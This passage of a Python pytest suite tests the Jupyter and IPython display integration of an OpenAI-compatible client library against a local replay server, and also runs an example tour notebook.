    publisher.parent_header = {"msg_id": "second"}
    thread = threading.Thread(target=sink.emit, args=(StreamEvent("text", "one"),))
    thread.start()
    thread.join()
    sink.emit(of_call(2, "text", "two"))
    assert [message["parent_header"]["msg_id"] for message in publisher.sent] == ["first", "second"]
    assert not publisher._hooks
    sink._cell_ended()


# Without a notebook.


def test_in_plain_python_it_prints(capsys: pytest.CaptureFixture[str]) -> None:
    with ReplayServer([stream_reply("a **b", "**")]) as server, Client(server.url, model="m") as client:
        client.chat("hi", sink=NotebookSink())
    assert capsys.readouterr().out == "a **b**\n"


def test_in_a_terminal_ipython_prints(tmp_path: Path) -> None:
    environment = {**os.environ, "IPYTHONDIR": str(tmp_path), "NO_COLOR": "1", "TERM": "dumb"}
    environment.pop("PYTHONWARNINGS", None)
    with ReplayServer([stream_reply("a **b", "**"), stream_reply("streamed"), chat_reply("whole")]) as server:
        script = tmp_path / "script.ipy"
        script.write_text(
            "from openai_compat import Client\n"
            "from openai_compat.integrations.jupyter import NotebookSink\n"
            f"client = Client({server.url!r}, model='m')\n"
            "answer = client.chat('hi', sink=NotebookSink())\n"
            "%load_ext openai_compat.integrations.jupyter\n"
            "get_ipython().run_cell_magic('chat', '', 'hi')\n"
            "get_ipython().run_cell_magic('chat', '--no-stream', 'hi')\n"
        )
        command = [sys.executable, "-m", "IPython", "--simple-prompt", "--no-banner", str(script)]
        ran = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60, check=True)
    assert ran.stdout.strip().splitlines() == ["a **b**", "streamed", "whole"], ran.stderr


def test_in_a_terminal_an_answer_that_was_printed_is_not_shown_again(tmp_path: Path) -> None:
    environment = {**os.environ, "IPYTHONDIR": str(tmp_path), "NO_COLOR": "1", "TERM": "dumb"}
    environment.pop("PYTHONWARNINGS", None)
    with ReplayServer([stream_reply("one ", "two"), stream_reply("three")]) as server:
        typed = (
            "from openai_compat import Client",
            "from openai_compat.integrations.jupyter import NotebookSink",
            f"client = Client({server.url!r}, model='m')",
            "client.chat('hi', sink=NotebookSink())",
            "answer = client.chat('hi', sink=NotebookSink())",
            "answer",
        )
        ran = subprocess.run(
            [sys.executable, "-m", "IPython", "--simple-prompt", "--no-banner"],
            input="\n".join(typed) + "\n",
            env=environment,
            capture_output=True,
            text=True,
            timeout=60,
            check=True,
        )
    assert ran.stdout.count("ChatResponse(") == 1, ran.stdout  # the one of a cell that printed nothing
    assert ran.stdout.index("one two") < ran.stdout.index("three") < ran.stdout.index("ChatResponse(")


# The tour.


def test_the_tour_runs(tmp_path: Path) -> None:
    notebook = nbformat.read(ROOT / "docs" / "examples" / "tour.ipynb", as_version=4)
    assert not any(cell.get("outputs") for cell in notebook.cells), "it is kept without outputs"
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONWARNINGS"}
    client = NotebookClient(notebook, timeout=100, kernel_name="python3")
    client.execute(env={**environment, "IPYTHONDIR": str(tmp_path)})
    outputs = {cell.id: cell.outputs for cell in notebook.cells if cell.cell_type == "code"}
    for name in ("ask", "usage", "stream", "magic", "say", "go-on", "conversation", "embed"):
        [output] = outputs[name]
        assert shown(output["data"]["text/html"]), name
    assert " + 40 tokens · " in shown(outputs["stream"][0]["data"]["text/html"])
    said = "system Be brief. user What is the capital of France. assistant .* user And of Italy. assistant .*input"
    assert re.match(said, shown(outputs["conversation"][0]["data"]["text/html"]))
    pages = [output["data"]["text/html"] for output in outputs["tools"]]
    assert len(pages) > 1
    assert "→ add(" in shown(pages[0])
    [city] = outputs["typed"]
    assert "City(name=" in shown(city["data"]["text/html"])
    [similar] = outputs["similar"]
    same, *others = json.loads(similar["data"]["text/plain"])
    assert same == pytest.approx(1, abs=0.002)
    assert all(number < 0.999 for number in others)
